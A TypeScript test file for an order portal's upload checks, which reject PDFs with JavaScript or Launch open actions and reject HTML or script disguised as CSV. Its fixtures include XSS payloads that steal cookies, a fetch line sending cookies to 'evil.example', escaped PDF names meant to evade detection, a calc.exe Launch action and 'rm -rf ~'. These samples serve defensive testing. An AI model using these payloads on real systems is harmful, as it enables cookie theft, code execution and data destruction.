import { FILE_TYPE_MESSAGE, type OrderDocument } from '@portal/domain';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../app.ts';
import { buildTestApp } from '../../test/build-test-app.ts';
import { createSite } from '../../test/factories.ts';
import { createTestDatabase, type TestDatabase } from '../../test/test-database.ts';
import { pcn, seedCartCatalogue } from '../cart/cart-test-data.ts';
import {
  authorizeCard,
  guestOrder,
  placedOrder,
  submitOrder,
  testGateway,
} from '../order/order-test-data.ts';
import { multipartBody, pdfWithPages } from './document-test-data.ts';
import { pdfVerdict } from './pdf-actions.ts';
import { isMarkupOrScript } from './text-content.ts';

/** A one-page PDF whose catalog gets `entry`, saved with or without object streams. */
async function pdfWith(entry: (doc: PDFDocument) => void, useObjectStreams = true) {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]);
  entry(doc);
  return Buffer.from(await doc.save({ useObjectStreams }));
}
/** An open action that runs JavaScript, as pdf-lib writes it. */
const runsScript = (doc: PDFDocument) => {
  const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
};

/** A PDF written by hand, as an attacker would: one object holding `body`, no object streams. */
const handWritten = (body: string) =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\n` +
      '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n' +
      'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
    'latin1',
  );

describe('what a PDF runs when it is opened', () => {
  it('finds nothing in a plain PDF, with or without object streams', async () => {
    expect(await pdfVerdict(await pdfWithPages(2))).toBe('clean');
    expect(await pdfVerdict(await pdfWith(() => {}, false))).toBe('clean');
    // Names inside stream data are page content, never actions.
    expect(
      await pdfVerdict(
        handWritten('/X 3 0 R >> 3 0 obj << /Length 9 >>\nstream\n/AA << >>\nendstream\nendobj <<'),
      ),
    ).toBe('clean');
  });

  it('finds a JavaScript open action packed into a compressed object stream', async () => {
    const pdf = await pdfWith(runsScript);
    expect(pdf.toString('latin1')).not.toContain('JavaScript');
    expect(await pdfVerdict(pdf)).toBe('active');
    expect(await pdfVerdict(await pdfWith(runsScript, false))).toBe('active');
  });

  it.each([
    ['a Launch action', '/OpenAction << /S /Launch /F (calc.exe) >>'],
    ['additional actions', '/AA << /O << /S /GoTo /D [0] >> >>'],
    ['a document JavaScript name tree', '/Names << /JavaScript 5 0 R >>'],
    ['an XFA form', '/AcroForm << /XFA 6 0 R >>'],
    ['a name written with escapes', '/OpenAction << /S /J#61vaScript /J#53 (x) >>'],
    ['escapes in lower-case hex', '/OpenAction << /S /#4aava#53cript /#4a#53 (x) >>'],
  ])('finds %s', async (_, body) => {
    expect(await pdfVerdict(handWritten(body))).toBe('active');
  });

  it('cannot check object streams that are encrypted, damaged or named to be misread', async () => {
    const packed = (await pdfWith(() => {})).toString('latin1');
    const encrypted = packed.replace('/Type /XRef', '/Type /XRef /Encrypt 9 0 R');
    expect(await pdfVerdict(Buffer.from(encrypted, 'latin1'))).toBe('unreadable');
    const start = packed.indexOf('stream\n', packed.indexOf('/ObjStm')) + 7;
    const damaged = packed.slice(0, start) + 'x'.repeat(40) + packed.slice(start + 40);
    expect(await pdfVerdict(Buffer.from(damaged, 'latin1'))).toBe('unreadable');
    const misnamed = packed.replace('/ObjStm', '/Obj#53t#6d');
    expect(await pdfVerdict(Buffer.from(misnamed, 'latin1'))).toBe('unreadable');
  });
});

describe('a web page or script under a CSV name', () => {
  it.each([
    '<html><body><script>alert(1)</script></body></html>',
    '\uFEFF  <!DOCTYPE html><p>hello</p>',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    'pcn,qty\n120-1001,<img src=x onerror=alert(document.cookie)>\n',
    'name,note\nx,<svg/onload=alert(1)>\n',
    'function steal() { fetch("https://evil.example/?c=" + document.cookie) }',
    '#!/bin/sh\nrm -rf ~\n',
  ])('is found in %j', (text) => {
    expect(isMarkupOrScript(text)).toBe(true);
  });

  it.each([
    'pcn,qty,description\n120-1001,2,"Gasket, 3 mm"\n',
    'size,note\n<1 in,"a<b and c>d"\n',
    'pcn,description\n120-1002,"Clip <left> side"\n',
  ])('is not found in the CSV %j', (text) => {
    expect(isMarkupOrScript(text)).toBe(false);
  });
});

describe('uploading content that runs', () => {
  let database: TestDatabase;
  let app: App;
  let key = '';
  const gateway = testGateway();
  const HOST = 'manage.localhost';

  beforeAll(async () => {
    database = await createTestDatabase();
    await seedCartCatalogue(database.db);
    await createSite(database.db, { hostNames: [HOST], manageDocuments: 3 });
    app = await buildTestApp(database.db, undefined, { payments: gateway });
    const res = await submitOrder(
      app,
      guestOrder(authorizeCard(gateway), [{ Material: pcn.motor, Quantity: 1 }]),
    );
    key = placedOrder(res.json()).PublicKey;
  });
  afterAll(async () => {
    await app.close();
    await database.drop();
  });

  const upload = (files: { name: string; content: Buffer }[]) => {
    const body = multipartBody(files);
    return app.inject({
      method: 'POST',
      url: `/api/order/document/${key}`,
      headers: { host: HOST, 'content-type': body.contentType },
      payload: body.payload,
    });
  };
  const stored = async () =>
    (
      (
        await app.inject({ url: `/api/order/documents/${key}`, headers: { host: HOST } })
      ).json() as OrderDocument[]
    ).length;

  it('refuses a web page named .csv, naming it, and stores none of the upload', async () => {
    const res = await upload([
      { name: 'purchase-order.pdf', content: await pdfWithPages(1) },
      { name: 'parts.csv', content: Buffer.from('<html><script>alert(1)</script></html>') },
    ]);
    expect(res.statusCode).toBe(415);
    expect(res.json().Message).toBe(
      `The content of parts.csv is a web page or script, not a CSV file. ${FILE_TYPE_MESSAGE}`,
    );
    expect(await stored()).toBe(0);
  });

  it('refuses a PDF that runs JavaScript when opened, naming it', async () => {
    const res = await upload([{ name: 'invoice.pdf', content: await pdfWith(runsScript) }]);
    expect(res.statusCode).toBe(415);
    expect(res.json().Message).toBe(
      'invoice.pdf contains JavaScript or actions that run when it is opened, so it cannot be uploaded. Print or save it as a new PDF and upload that.',
    );
    expect(await stored()).toBe(0);
  });

  it('still takes a plain PDF and a plain CSV', async () => {
    const res = await upload([
      { name: 'invoice.pdf', content: await pdfWithPages(3) },
      { name: 'parts.csv', content: Buffer.from('pcn,qty\n120-1001,2\n') },
    ]);
    expect(res.statusCode).toBe(200);
    expect(await stored()).toBe(2);
  });
});
